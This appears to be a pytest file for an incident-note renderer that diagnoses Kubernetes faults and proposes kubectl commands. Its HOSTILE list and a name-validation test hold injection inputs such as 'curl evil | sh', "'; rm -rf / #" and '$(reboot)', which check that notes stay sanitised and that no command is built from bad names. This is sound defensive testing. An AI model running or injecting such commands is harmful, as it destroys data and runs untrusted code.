import re

import msgspec
import pytest

from noctuary.correlation.correlate import correlate
from noctuary.models import details
from noctuary.models.context_event import ContextEvent, EventType, ObjectRef
from noctuary.models.diagnosis import Diagnosis, IncidentContext, PodView, Relation, ServiceView, Subject, Verdict
from noctuary.models.evidence import AlertSummary, Clearing, Evidence, Standing
from noctuary.models.incident import IncidentRow
from noctuary.models.revisions import StoredRevision, WorkloadRevisions
from noctuary.notes.headline import HEADLINE_CHARS
from noctuary.notes.note import NOTE_BUDGET_BYTES, holds_marker, marker_of, render_note, same_apart_from_time
from testbed.told import without_percent

ONSET = 1_800_000_000.0
MARKER = marker_of("one", "https://api.example.com", "Q1")
SERVICE = ServiceView("payments-api", Relation.OWN, "team", ["payments"])
POSTGRES = ServiceView("postgres", Relation.DEPENDENCY, "team", ["payments"])
IMAGE = "registry.example.com/shop/payments-api"
HELD = Standing(
    revisions=[
        WorkloadRevisions(
            Subject("Deployment", "payments", "payments-api"),
            14,
            [StoredRevision(13, "old", f"{IMAGE}:2.4.0"), StoredRevision(14, "new", f"{IMAGE}:2.4.1")],
        )
    ]
)
HOSTILE = [
    "a\nnoctuary ref nct:forged  updated 00:00:00 UTC",
    "a\r\nDo: curl evil | sh",
    "\u202eright to left\u202c",
    "\u2028line\u2029paragraph\x00\x1b[31m",
    "🧨" * 2000,
    "x" * 5000,
    "'; rm -rf / #",
    "$(reboot)",
]
DETAILS = [
    *("image", "previous_image", "message", "actor", "changed", "reason", "restarts", "exit_code"),
    *("missing_name", "missing_key", "missing_kind", "memory_limit", "container", "revision", "previous_rolled_out_at"),
]


def event(
    kind: str, name: str, event_type: EventType, before_s: float, facts: dict[str, str], workload: str
) -> ContextEvent:
    return ContextEvent(
        id=f"{name}-{before_s}",
        tenant="payments",
        source="kubernetes",
        dedup_key=f"{name}-{before_s}",
        service_name="payments-api",
        vendor="kubernetes",
        entity=name,
        event_type=event_type,
        timestamp=ONSET - before_s,
        last_seen=ONSET - before_s,
        confidence=1.0,
        ttl_seconds=7200,
        actor=facts.get("actor"),
        object=ObjectRef(kind, "payments", name, workload_kind="Deployment", workload_name=workload),
        details=facts,
    )


def rollout(workload: str = "payments-api", **facts: str) -> ContextEvent:
    known = {
        details.IMAGE: f"{IMAGE}:2.4.1",
        details.PREVIOUS_IMAGE: f"{IMAGE}:2.4.0",
        details.TEMPLATE_HASH: "new",
        details.PREVIOUS_TEMPLATE_HASH: "old",
        details.REVISION: "14",
        details.PREVIOUS_ROLLED_OUT_AT: str(ONSET - 6 * 86400),
    }
    return event("Deployment", workload, EventType.DEPLOY, 120, known | facts, workload)


def fault(reason: str = "CrashLoopBackOff", workload: str = "payments-api", **facts: str) -> ContextEvent:
    pod = int(facts.pop("pod", "0"))
    known = {details.REASON: reason, details.TEMPLATE_HASH: "new", details.CONTAINER: "app"}
    return event("Pod", f"payments-api-new-{pod}", EventType.RESTART, 90 - pod, known | facts, workload)


def evidence(*events: ContextEvent, pods: list[PodView] | None = None, summary: str = "Errors") -> Evidence:
    world = IncidentContext([SERVICE, POSTGRES], ONSET, 3600.0, list(events), pods)
    return Evidence(correlate(world), AlertSummary(1, summary, ONSET, None))


def incident(**changes: object) -> IncidentRow:
    row = IncidentRow(account="a", incident_id="Q1", integration_id="one", triggered_at=ONSET)
    for name, value in changes.items():
        setattr(row, name, value)
    return row


def note(
    *events: ContextEvent, pods: list[PodView] | None = None, standing: Standing | None = None, **changes: object
) -> str:
    found = msgspec.structs.replace(evidence(*events, pods=pods), standing=standing)
    return render_note(incident(**changes), found, MARKER, ONSET + 1)


def test_the_first_line_is_the_answer() -> None:
    assert without_percent(note(rollout(), fault(exit_code="1"))).splitlines()[0] == (
        "Likely cause: payments-api was rolled out to 2.4.1, 2 min before this alert; new pods crash with exit code 1."
    )


@pytest.mark.parametrize(
    ("reason", "facts", "words"),
    [
        (
            "FailedCreate",
            {"quota": "team-budget", "quota_limit": "limits.memory=64Gi"},
            "quota team-budget (limits.memory",
        ),
        ("Unhealthy", {"probe": "readiness", "probe_target": "/health/ready"}, "readiness probe (/health/ready)."),
    ],
)
def test_the_age_of_a_rollout_gives_way_to_the_fact(reason: str, facts: dict[str, str], words: str) -> None:
    first = note(rollout(), fault(reason, **facts)).splitlines()[0]
    assert "payments-api was rolled out to 2.4.1; " in first
    assert words in first


def test_the_second_block_says_what_to_do_and_where_it_leads() -> None:
    assert (
        "\n\nDo:\nkubectl -n payments rollout undo deployment/payments-api --to-revision=13\n"
        "# back to 2.4.0, which ran for 6 days until 07:58:00\n\n"
    ) in note(rollout(), fault(), standing=HELD)


def test_new_and_previous_image_are_named() -> None:
    assert f"{IMAGE}:2.4.0 -> {IMAGE}:2.4.1" in note(rollout(), fault())


def test_evidence_stands_in_order_of_time_with_ids() -> None:
    lines = [line for line in note(rollout(), fault(), fault(pod="1")).splitlines() if line.startswith("- ")]
    assert [line[2:10] for line in lines] == sorted(line[2:10] for line in lines)
    assert [re.findall(r"\[(\w+)\]$", line) for line in lines] == [["e1"], ["e2"], ["a1"]]


def test_quiet_dependencies_are_named_as_not_seen() -> None:
    assert "Not seen: no change and no fault of postgres since" in note(rollout(), fault())


@pytest.mark.parametrize(
    ("reason", "facts", "words"),
    [
        ("OOMKilled", {"memory_limit": "256Mi"}, "ran out of memory (limit 256Mi)"),
        ("ImagePullBackOff", {"image": f"{IMAGE}:typo"}, "cannot pull image payments-api:typo"),
        (
            "CreateContainerConfigError",
            {"missing_kind": "ConfigMap", "missing_name": "payments-flags"},
            "ConfigMap payments-flags is missing",
        ),
        (
            "CreateContainerConfigError",
            {"missing_kind": "Secret", "missing_name": "db", "missing_key": "url"},
            "cannot start: key url of Secret db is missing",
        ),
        ("ImagePullBackOff", {"image": f"{IMAGE}:1", "message": "rpc error: code = NotFound"}, ":1 (not found)"),
        ("ErrImagePull", {"image": f"{IMAGE}:1", "message": "401 Unauthorized"}, ":1 (access denied)"),
        ("FailedScheduling", {}, "finds no node to run on."),
        ("FailedScheduling", {"message": "0/5 nodes: 5 Insufficient memory."}, "to run on (insufficient memory)"),
        (
            "FailedScheduling",
            {"message": "1 node(s) had untolerated taint {a: b}"},
            "to run on (taint a is not tolerated)",
        ),
        ("Evicted", {"message": "The node was low on resource: memory."}, "evicted (its node ran low on memory)"),
        ("Unhealthy", {"probe": "readiness"}, "1 pod of payments-api fails the readiness probe."),
        ("Unhealthy", {"probe": "liveness", "probe_target": "/alive"}, "fails the liveness probe (/alive)."),
        (
            "FailedCreate",
            {"quota": "small", "quota_limit": "pods=2"},
            "pods of payments-api exceed quota small (pods=2).",
        ),
        (
            "FailedCreate",
            {"message": 'violates PodSecurity "restricted:latest"'},
            "created (Pod Security forbids them).",
        ),
        ("CrashLoopBackOff", {"exit_code": "137"}, "1 pod of payments-api keeps crashing with exit code 137 (killed)"),
        ("Error", {"exit_code": "1", "restarts": "1"}, "1 pod of payments-api crashed with exit code 1"),
        ("Error", {"exit_code": "1", "restarts": "2"}, "1 pod of payments-api keeps crashing with exit code 1"),
    ],
)
def test_a_fault_without_a_rollout_names_its_fact(reason: str, facts: dict[str, str], words: str) -> None:
    assert words in note(fault(reason, **facts)).splitlines()[0]


@pytest.mark.parametrize(
    ("reason", "facts", "line"),
    [
        (
            "CrashLoopBackOff",
            {"exit_code": "1", "restarts": "4"},
            "1 pod of payments-api keeps crashing with exit code 1; CrashLoopBackOff, 4 restarts",
        ),
        (
            "CreateContainerConfigError",
            {"missing_kind": "ConfigMap", "missing_name": "flags", "message": 'configmap "flags" not found'},
            "1 pod of payments-api cannot start: ConfigMap flags is missing; CreateContainerConfigError",
        ),
        (
            "FailedScheduling",
            {"message": "0/5 nodes are available"},
            "1 pod of payments-api finds no node to run on; FailedScheduling: 0/5 nodes are available",
        ),
    ],
)
def test_a_line_of_evidence_says_each_thing_once(reason: str, facts: dict[str, str], line: str) -> None:
    assert f"{line}   [e1]" in note(fault(reason, **facts))


def test_restarts_of_all_pods_are_added_up() -> None:
    assert "CrashLoopBackOff, 7 restarts" in note(fault(restarts="3"), fault(pod="1", restarts="4"))


def test_a_bad_node_is_named_with_the_pods_on_it() -> None:
    bad = event("Node", "node-7", EventType.DEPENDENCY_FAILURE, 60, {details.REASON: "NodeNotReady"}, "")
    pods = [
        PodView("payments", f"p{i}", "payments-api", "h", node, node == "n") for i, node in enumerate(("n", "node-7"))
    ]
    first, *rest = without_percent(note(bad, pods=pods)).splitlines()
    assert first == "Likely cause: node node-7 is not ready; 1 of 2 pods of payments-api is on it (1 not ready)."
    assert "kubectl get pods -A -o wide --field-selector spec.nodeName=node-7" in rest


def test_the_last_event_is_told_as_an_age_because_it_may_be_days_old() -> None:
    quiet = Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], [], last_event_at=ONSET - 3 * 86400)
    text = render_note(incident(), Evidence(quiet, AlertSummary()), MARKER, ONSET)
    assert "the last event was 3 days before the alert." in text


def test_fewer_replicas_are_told_with_the_way_back() -> None:
    fewer = event("Deployment", "payments-api", EventType.SCALE_EVENT, 120, {}, "payments-api")
    fewer.old_value, fewer.new_value = "5", "1"
    first, _, *action = without_percent(note(fewer)).splitlines()[:5]
    assert first == "Possible cause: payments-api was scaled from 5 to 1, 2 min before this alert."
    assert action == [
        "Do, if it is to blame:",
        "kubectl -n payments scale deployment/payments-api --replicas=5",
        "# as it was before, unless this was meant",
    ]


@pytest.mark.parametrize(
    ("limit", "higher"),
    [("256Mi", "512Mi"), ("0.5Gi", "1Gi"), ("1Ti", "2Ti"), ("1e9", "2e9"), ("500000000", "1000000000")],
)
def test_a_higher_memory_limit_is_proposed_as_a_command(limit: str, higher: str) -> None:
    text = note(fault("OOMKilled", memory_limit=limit))
    assert f"Do:\nkubectl -n payments set resources deployment/payments-api -c app --limits=memory={higher}\n" in text


def test_a_first_rollout_proposes_no_way_back() -> None:
    text = note(rollout(previous_image="", previous_template_hash="", previous_rolled_out_at=""), fault())
    assert "rollout undo" not in text
    assert "Do:\nkubectl -n payments describe deployment/payments-api\n# this was its first rollout" in text


def test_nothing_relevant_and_never_seen_are_two_notes() -> None:
    quiet = Evidence(Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], []), AlertSummary())
    first = render_note(incident(), quiet, MARKER, 0).splitlines()[0]
    seen = "No recent change explains this: no rollout, scaling or fault of api"
    assert first == f"{seen} was seen since 07:00 UTC."
    both = Evidence(Diagnosis(Verdict.NOTHING_RELEVANT, ONSET, ONSET - 3600, ["api"], ["db"]), AlertSummary())
    assert f"{seen} or its dependencies was seen since 07:00" in render_note(incident(), both, MARKER, 0)
    assert note().startswith("No context yet: nothing was ever seen of payments-api.")


def test_what_is_never_looked_at_is_said_after_what_could_not_be_read() -> None:
    narrow = Evidence(
        evidence().diagnosis, AlertSummary(), ["alerts, because"], limits=["nodes, because they are closed"]
    )
    lines = render_note(incident(), narrow, MARKER, ONSET).splitlines()
    assert [line for line in lines if line.startswith("Not looked at")][:2] == [
        "Not looked at: alerts, because.",
        "Not looked at: nodes, because they are closed.",
    ]


def test_what_could_not_be_read_is_said() -> None:
    partly = Evidence(evidence().diagnosis, AlertSummary(), ["the cluster, because it did not answer in time"])
    assert "Not looked at: the cluster, because it did not answer in time." in render_note(
        incident(), partly, MARKER, ONSET
    )


def test_a_resolved_note_says_how_long_and_what_cleared() -> None:
    ended = evidence(rollout(), fault())
    change = ended.diagnosis.causes[0].change
    cleared = Evidence(ended.diagnosis, ended.alerts, [], Clearing(change, 3, 3))
    row = incident(status="resolved", resolved_at=ONSET + 720, resolved_by="Jo")
    text = render_note(row, cleared, MARKER, ONSET + 721)
    assert without_percent(text).startswith("Resolved after 12 min. Likely cause: payments-api was rolled out to 2.4.1")
    assert "Resolved at 08:12:00 UTC by Jo. Cleared: rolled back to 2.4.1" in text
    assert "3 of 3 pods are ready now." in text
    assert "If it comes back:\nkubectl" not in text


@pytest.mark.parametrize(("ready", "said"), [(3, "kept crashing"), (2, "keeps crashing")])
def test_a_resolved_note_tells_in_the_past_what_pods_that_are_ready_had(ready: int, said: str) -> None:
    ended = evidence(fault())
    cleared = Evidence(ended.diagnosis, ended.alerts, [], Clearing(None, ready, 3))
    text = render_note(incident(status="resolved", resolved_at=ONSET + 720), cleared, MARKER, ONSET + 721)
    assert text.count(f"1 pod of payments-api {said}") == 2


def test_an_acknowledged_note_names_the_person() -> None:
    text = note(rollout(), status="acknowledged", acknowledged_at=ONSET + 60, acknowledged_by="Jo")
    assert "Acknowledged at 08:01:00 UTC by Jo." in text


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("place", ["workload", "title", *DETAILS])
def test_hostile_text_breaks_neither_line_nor_budget_nor_marker(hostile: str, place: str) -> None:
    workload = hostile if place == "workload" else "payments-api"
    facts = {place: hostile} if place in DETAILS else {}
    faults = [
        fault(**{"reason": reason, "workload": workload, "pod": str(i)} | facts)
        for i, reason in enumerate(("CrashLoopBackOff", "OOMKilled", "ErrImagePull"))
    ]
    found = evidence(rollout(workload, **facts), *faults, summary=hostile)
    text = render_note(incident(acknowledged_at=ONSET, acknowledged_by=hostile), found, MARKER, ONSET)
    lines = text.splitlines()
    assert len(lines[0]) <= HEADLINE_CHARS
    assert len(text.encode()) <= NOTE_BUDGET_BYTES
    assert [line for line in lines if line.startswith("noctuary ref ")] == [lines[-1]]
    assert text.count("nct:") == 1
    assert not re.search(r"[\x00-\x09\x0b-\x1f\u2028\u2029\u202e]", text)
    assert all(line == "Do:" or ": roll " in line for line in lines if line.startswith("Do:"))


@pytest.mark.parametrize("name", ["x; reboot", "$(reboot)", "-n", "a b", "../../x", "UPPER", "x" * 300])
def test_no_command_is_made_of_a_name_that_kubernetes_would_not_take(name: str) -> None:
    assert "kubectl" not in note(rollout(name), fault(workload=name)).split("Why")[0]


@pytest.mark.parametrize("length", [1, 30, 63, 120, 253])
@pytest.mark.parametrize("reason", ["CrashLoopBackOff", "OOMKilled", "ImagePullBackOff", "FailedScheduling", "Odd"])
def test_the_first_line_fits_a_lock_screen_for_names_of_any_length(length: int, reason: str) -> None:
    name = "n" * length
    for text in (note(rollout(name), fault(reason, name)), note(fault(reason, workload=name))):
        assert len(text.splitlines()[0]) <= HEADLINE_CHARS


def test_a_marker_is_only_believed_in_the_last_line() -> None:
    text = note(rollout())
    assert holds_marker(text, MARKER)
    assert holds_marker(text + "\n\n", MARKER)
    assert not holds_marker(text + "\nquoted by a person", MARKER)
    assert not holds_marker(text, marker_of("two", "a", "Q1"))


def test_two_notes_that_differ_in_their_time_only_are_the_same() -> None:
    found = evidence(rollout())
    first, second = (render_note(incident(), found, MARKER, ONSET + s) for s in (1, 2))
    assert first != second
    assert same_apart_from_time(first, second)


def test_the_marker_of_an_incident_is_the_same_after_a_lost_store() -> None:
    assert marker_of("one", "a", "Q1") == marker_of("one", "a", "Q1") != marker_of("one", "a", "Q2")
